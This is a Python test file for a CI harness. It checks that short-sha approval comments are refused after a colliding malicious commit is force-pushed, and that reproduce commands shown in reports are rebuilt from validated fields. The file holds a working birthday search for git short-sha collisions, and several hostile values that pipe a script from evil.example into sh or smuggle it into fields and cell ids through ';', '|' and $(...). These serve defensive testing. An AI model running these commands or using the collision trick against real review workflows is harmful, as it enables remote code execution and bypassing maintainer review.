"""A pull request's author against the two things a maintainer trusts: the commit `/ok to test <sha>` approves, and
the `harness run` line a report hands them to paste. Issue 44, items 4 and 5.

The author writes both commits of a short-sha twin, so finding two that share a prefix is a birthday search: n hex
characters are 4n bits, and about 2**(2n) tries find a pair (12 characters: ~2**24, about a minute on one core;
matching a commit someone else wrote would be 2**48). The author also writes the cell folder a report reads, so a
command line read from it is theirs; the line a report shows is rebuilt from typed fields instead."""

from __future__ import annotations

import datetime
import hashlib
import html
import itertools
import json
import re
import subprocess
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest
from fake_github import HEAD, comment_event

from harness import cli
from harness.report.render import render
from harness.results import load_results

# --------------------------------------------------------------------------- item 5: a short sha names two commits


def authorize(event: Path, tmp_path: Path) -> int:
    return cli.main(["gh", "authorize", "--event", str(event), "--reason-file", str(tmp_path / "reason.txt")])


def outputs(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines())


def git(repo: Path, *args: str, stdin: bytes | None = None) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], input=stdin, capture_output=True, check=True).stdout.decode()


def git_object(repo: Path, kind: str, content: bytes) -> str:
    return git(repo, "hash-object", "-w", "-t", kind, "--stdin", stdin=content).strip()


def tree_with(repo: Path, loader_code: bytes) -> str:
    blob = git_object(repo, "blob", loader_code)
    return git(repo, "mktree", stdin=f"100644 blob {blob}\tloader.py\n".encode()).strip()


def commit_body(tree: str, nonce: int) -> bytes:
    """A commit as git stores it; the author varies an innocuous trailer until two commits share a prefix."""
    person = "Forker <forker@example.com> 1796535479 +0000"
    return (f"tree {tree}\nauthor {person}\ncommitter {person}\n\n"
            f"Speed up the EP loader\n\nChange-Id: I{nonce:040x}\n").encode()


def commit_sha(body: bytes) -> str:
    return hashlib.sha1(b"commit %d\0" % len(body) + body).hexdigest()


def birthday_twins(benign_tree: str, malicious_tree: str, characters: int) -> tuple[bytes, bytes, int]:
    """A benign and a malicious commit whose shas share their first `characters` hex digits, and the tries it took:
    every new commit of either kind is checked against all the other kind's so far (a birthday search)."""
    seen: tuple[dict[str, bytes], dict[str, bytes]] = ({}, {})
    for nonce in itertools.count():
        for side, tree in enumerate((benign_tree, malicious_tree)):
            body = commit_body(tree, nonce)
            prefix = commit_sha(body)[:characters]
            twin = seen[1 - side].get(prefix)
            if twin is not None:
                benign, malicious = (body, twin) if side == 0 else (twin, body)
                return benign, malicious, 2 * nonce + side + 1
            seen[side][prefix] = body
    raise AssertionError("unreachable")


def an_hour_and_a_minute_before(event: Path) -> str:
    commented = datetime.datetime.fromisoformat(json.loads(event.read_text())["comment"]["created_at"])
    return (commented - datetime.timedelta(minutes=61)).isoformat().replace("+00:00", "Z")


def test_two_real_commits_found_to_share_a_short_sha_approve_neither_by_it(fake, env, tmp_path):
    """A birthday search on 7 characters (2**14 tries or so, under a second) finds a benign and a malicious commit
    git itself names by one prefix. The maintainer reviews the benign head, the author force-pushes the twin, and
    the maintainer's `/ok to test <prefix>` an hour later is refused, with the head's full sha to compare."""
    repo = tmp_path / "repo"
    git(tmp_path, "init", "-q", str(repo))
    benign_tree = tree_with(repo, b"def load(path):\n    return read(path)\n")
    malicious_tree = tree_with(repo, b"import os\nos.system('curl -s https://evil.example/x.sh | sh')\n")
    benign, malicious, tries = birthday_twins(benign_tree, malicious_tree, 7)
    reviewed, pushed = git_object(repo, "commit", benign), git_object(repo, "commit", malicious)
    prefix = reviewed[:7]
    assert (reviewed, pushed) == (commit_sha(benign), commit_sha(malicious)) and pushed.startswith(prefix)
    assert set(git(repo, "rev-parse", f"--disambiguate={prefix}").split()) == {reviewed, pushed}, tries

    fake.add_pull(7, head=reviewed)
    fake.permissions["maintainer"] = ("write", "write")
    event = comment_event(tmp_path, f"/ok to test {prefix}")
    fake.force_push(7, pushed, at=an_hour_and_a_minute_before(event))
    assert authorize(event, tmp_path) == 5
    assert "sha" not in outputs(env)
    assert f"If `{pushed}` is the commit you reviewed, comment `/ok to test {pushed}`" in (
        tmp_path / "reason.txt").read_text()


def test_a_12_character_twin_force_pushed_61_minutes_before_the_comment_is_refused(fake, env, tmp_path):
    """The case 3d3554e approved: a 12-character prefix (the old minimum), one commit in the pull request (the
    force-push replaced the reviewed one), the force-push more than the old hour's quiet before the comment. The
    twin's sha is made here by construction; a real pair sharing 12 characters took 73 s on one core."""
    twin = HEAD[:12] + "0" * 28
    fake.add_pull(7, head=HEAD)
    fake.permissions["maintainer"] = ("write", "write")
    event = comment_event(tmp_path, f"/ok to test {HEAD[:12]}")
    fake.force_push(7, twin, at=an_hour_and_a_minute_before(event))
    assert authorize(event, tmp_path) == 5, f"approved the twin: {outputs(env)}"
    assert "sha" not in outputs(env)
    reason = (tmp_path / "reason.txt").read_text()
    assert f"`{HEAD[:12]}` is a short sha: its 12 characters" in reason and f"/ok to test {twin}`" in reason


# --------------------------------------------------------------------------- item 4: the line to paste

CELL = "cpu-2rank-torch2.13.0-tf5.24.0"
HOSTILE_LINE = "harness run --matrix pr --cell cpu-2rank; curl -s https://evil.example/x.sh | sh # -- -k test_a"
REBUILT = f"harness run --matrix pr --cell {CELL} -- -k test_a"
VIEWS = ["pr-comment", "summary", "html", "terminal"]


def hostile_cell(root: Path, test_name: str = "test_a", **env: object) -> Path:
    """A red cell's folder as the pull request's code can write it: env.json is its to fill."""
    folder = root / CELL
    folder.mkdir(parents=True)
    record = {"schema": 1, "cell": {"id": CELL, "gpu": "cpu", "gpus": 2, "torch": "2.13.0",
                                    "transformers": "5.24.0", "matrix": "pr"},
              "status": "failed", "exit_code": 1, **env}
    (folder / "env.json").write_text(json.dumps(record))
    (folder / "junit.xml").write_text(
        '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest">'
        f'<testcase classname="tests.gpu.test_ep" name={quoteattr(test_name)} file="tests/gpu/test_ep.py" time="1.0">'
        '<failure message="boom">E   boom</failure></testcase></testsuite></testsuites>')
    return root


def commands(text: str) -> list[str]:
    """Each `harness run ...` a view shows, up to the end of its line or the markup around it."""
    return [command.rstrip() for command in re.findall(r"harness run[^\n<`]*", html.unescape(text))]


@pytest.mark.parametrize("fmt", VIEWS)
def test_a_recorded_command_line_never_reaches_a_view(tmp_path, fmt):
    """The bot's "Reproduce locally" block, the job summary, the HTML and the terminal showed env.json's `reproduce`
    whole. Now each shows the line rebuilt from the cell's typed fields, and nothing of the recorded one."""
    text = render(load_results([hostile_cell(tmp_path, reproduce=HOSTILE_LINE)]), fmt)
    assert "curl" not in text and "evil.example" not in text
    assert commands(text) == [REBUILT]
    assert not re.search(r"[;|#$&<>]", REBUILT)


@pytest.mark.parametrize(("fields", "test_name", "shown"), [
    ({"matrix_reference": "pr; curl -s https://evil.example/x.sh | sh"}, "test_a",
     f"harness run --matrix pr --cell {CELL} -- -k test_a"),  # the cell's matrix name instead, and a Problem
    ({"matrix_reference": "pr", "pytest_args": ["-k", "x", "; curl -s https://evil.example/x.sh | sh"]}, "test_a",
     f"harness run --matrix pr --cell {CELL} -- -k test_a"),  # the cell whole, and a Problem
    ({"matrix_reference": "pr", "pytest_args": []}, "test_a; curl -s https://evil.example/x.sh | sh",
     f"harness run --matrix pr --cell {CELL}"),  # not a -k word: the run's own selection
    ({"matrix_reference": "pr", "pytest_args": ["-k", "ep"]}, "test_a", f"harness run --matrix pr --cell {CELL} "
     "-- -k '(ep) and (test_a)'"),  # what harness writes, rebuilt as it was
])
def test_each_typed_field_is_checked_before_it_joins_the_line(tmp_path, fields, test_name, shown):
    results = load_results([hostile_cell(tmp_path, test_name, **fields)])
    for fmt in VIEWS:
        assert commands(render(results, fmt)) == [shown], fmt
    problems = [str(problem) for problem in results.cells[0].problems]
    assert bool([p for p in problems if "matrix_reference" in p or "pytest_args" in p]) == ("curl" in str(fields))


def test_a_cell_id_harness_would_not_build_has_no_line_to_paste(tmp_path):
    root = tmp_path / "run"
    folder = hostile_cell(root, reproduce=HOSTILE_LINE) / CELL
    record = json.loads((folder / "env.json").read_text())
    record["cell"]["id"] = "cpu-2rank$(curl -s https://evil.example/x.sh|sh)"
    (folder / "env.json").write_text(json.dumps(record))
    results = load_results([root])
    assert results.cells[0].reproduce_command() == ""
    assert [problem for problem in results.cells[0].problems if "left out of the reproduce command" in str(problem)]
    for fmt in VIEWS:
        assert not commands(render(results, fmt)), fmt
